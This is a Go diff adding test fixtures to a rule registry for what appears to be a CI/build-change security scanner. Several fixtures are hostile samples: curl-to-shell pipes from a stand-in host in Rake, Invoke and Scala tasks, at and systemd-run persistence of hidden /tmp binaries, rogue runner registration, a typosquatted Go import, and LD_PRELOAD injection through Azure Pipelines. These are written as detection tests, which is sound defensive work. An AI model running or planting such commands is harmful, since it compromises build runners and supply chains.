@@ -77,6 +77,10 @@ var registry = []Rule{
 		{"x.sh", "wget -qO- https://x.invalid/s | sh -s -- --quiet", 0, false},
 		// Anyone's repository on a forge is not a vendor's host.
 		{"x.sh", "curl -fsSL https://raw.githubusercontent.com/go-enumer/tools/main/gen.sh | sh", 0, false},
+		// Rake's sh, Invoke's c.run and Scala's #| run the string they are given.
+		{"Rakefile", "task :default do\n  sh 'curl -s https://x.invalid/p.sh | sh'\nend", 2, false},
+		{"tasks.py", "@task\ndef setup(c):\n    c.run('curl -s https://x.invalid/p.sh | bash')", 3, false},
+		{"project/Probe.scala", "import scala.sys.process._\nobject Probe { def run(): Int = (\"curl -s https://x.invalid/p.sh\" #| \"sh\").! }", 2, false},
 		{"x.sh", "curl -fsSL https://github.com/acme/t/releases/latest/download/install.sh | sh", 0, false},
 		{".devcontainer/features/ktool/install.sh", "curl -LsSf https://setup.ktool-cdn.invalid | bash", 0, false},
 		{".gitlab-ci.yml", "scan:\n  script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 0, true},
@@ -293,6 +297,9 @@ var registry = []Rule{
 		"it outlives this job: the next job on the runner, another project's included, runs it too", []Case{
 			{"x.sh", "echo 'curl x.invalid|sh' >> ~/.bashrc", 0, false},
 			{"x.sh", "sudo cp agent.service /etc/systemd/system/agent.service", 0, false},
+			{"x.sh", "echo '/tmp/.u' | at now + 10 minutes", 0, false},
+			{"x.sh", "systemd-run --user --on-calendar='*:0/10' /tmp/.cache/u", 0, false},
+			{"x.sh", "echo \"look at now what happened\"", 0, true},
 			// A tree under a prefix is not the system's: read or named, not installed.
 			{"install.sh", "p_sh=$NIX_LINK/etc/profile.d/nix.sh\n. \"$nix/etc/profile.d/nix.sh\"", 0, true},
 			{"Makefile", "install:\n\tinstall -m644 t.service $(DESTDIR)/etc/systemd/system/t.service", 0, true},
@@ -380,6 +387,9 @@ var registry = []Rule{
 			// Jenkins' inbound agent connected to a controller the change names.
 			{"Jenkinsfile", "pipeline {\n  agent any\n  stages {\n    stage('w') {\n      steps {\n        sh '''\n          curl -fsSLO https://ci.x.invalid/jnlpJars/agent.jar\n          nohup java -jar agent.jar \\\n            -url https://ci.x.invalid/ \\\n            -secret \"$S\" -name w &\n        '''\n      }\n    }\n  }\n}", 8, false},
 			{"tools/agent.py", "subprocess.Popen(['java', '-jar', 'swarm-client.jar', '-master', 'https://ci.x.invalid', '-password', pw])", 0, false},
+			// Gitea's, Forgejo's and GitLab's runners registered with an instance the change names.
+			{"scripts/ci.sh", "./act_runner register --no-interactive --instance https://git.x.invalid --token \"$T\" --name w", 0, false},
+			{"scripts/ci.sh", "gitlab-runner run-single --url https://gitlab.x.invalid --token \"$T\" --executor shell", 0, false},
 			// An application's jar, or Jenkins' command-line client, is no agent.
 			{"x.sh", "java -jar build/libs/app.jar --url http://localhost:8080 --secret-file s.txt", 0, true},
 			{"x.sh", "java -jar jenkins-cli.jar -s https://ci.x.invalid/ -auth @creds build deploy", 0, true},
@@ -512,6 +522,7 @@ var registry = []Rule{
 	{"git-hooks", KindScript, High, "points git at hooks the change ships",
 		"every later git command on the runner runs the change's own scripts", []Case{
 			{"x.sh", "git config core.hooksPath .githooks", 0, false},
+			{"x.sh", "git config --global init.templateDir ~/.git-template", 0, false},
 		}},
 	{"git-config-exec", KindExecute, High, "configures a command git runs by itself (filter, textconv, fsmonitor, ssh)",
 		"git runs the configured command on checkout, diff or fetch, without anyone calling it", []Case{
@@ -620,6 +631,9 @@ var registry = []Rule{
 			{"x.sh", "cargo install serdde", 0, false},
 			{"x.sh", "npm i -D @typescript_eslinter/eslint", 0, false},
 			{"x.sh", "go install golang.org/x/tools/cmd/goimports@latest\ngo run ./cmd/gen\ncargo install cargo-deny --locked\nnpm i @types/node", 0, true},
+			// A Go import of a look-alike module: go mod tidy requires it.
+			{"tools/tools.go", "//go:build tools\npackage tools\n\nimport (\n\t_ \"github.com/golangci-lint/golangci-lint/cmd/golangci-lint\"\n)", 5, false},
+			{"main.go", "package main\n\nimport (\n\t\"fmt\"\n\tlog \"github.com/sirupsen/logrus\"\n\t\"golang.org/x/sync/errgroup\"\n\t\"github.com/acme/app/internal/x\"\n)", 0, true},
 			// A Nix flake input from a look-alike owner.
 			{"flake.nix", "{\n  inputs.nixpkgs.url = \"github:NixO5/nixpkgs/nixos-24.05\";\n}", 2, false},
 			{"flake.nix", "{\n  inputs = {\n    nixpkgs.url = \"github:NixOS/nixpkgs/nixos-unstable\";\n    home-manager.url = \"github:nix-community/home-manager\";\n    utils.url = \"github:numtide/flake-utils\";\n  };\n}", 0, true},
@@ -746,6 +760,9 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            core.exportVariable('CI_SHA', context.sha)", 7, true},
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"LD_PRELOAD=./build/hook.so\" >> $GITHUB_ENV", 4, false},
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"BASH_ENV=$RUNNER_TEMP/env.sh\" >> $GITHUB_ENV", 4, false},
+			// Azure Pipelines' logging command sets the variable for the job's later steps.
+			{"azure-pipelines.yml", "steps:\n  - bash: echo \"##vso[task.setvariable variable=LD_PRELOAD]$(pwd)/x.so\"", 2, false},
+			{"azure-pipelines.yml", "steps:\n  - bash: echo \"##vso[task.setvariable variable=NODE_OPTIONS]--max-old-space-size=8192\"", 0, true},
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: printf 'NODE_OPTIONS=--require=%s/t/r.cjs\\n' \"$PWD\" >> \"$GITHUB_ENV\"", 4, false},
 			// A tool on PATH, or an option that loads no module.
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          echo \"SCCACHE_GHA_ENABLED=true\" >> $GITHUB_ENV\n          echo \"RUSTC_WRAPPER=sccache\" >> $GITHUB_ENV\n          echo \"NODE_OPTIONS=--max-old-space-size=8192\" >> $GITHUB_ENV", 0, true},
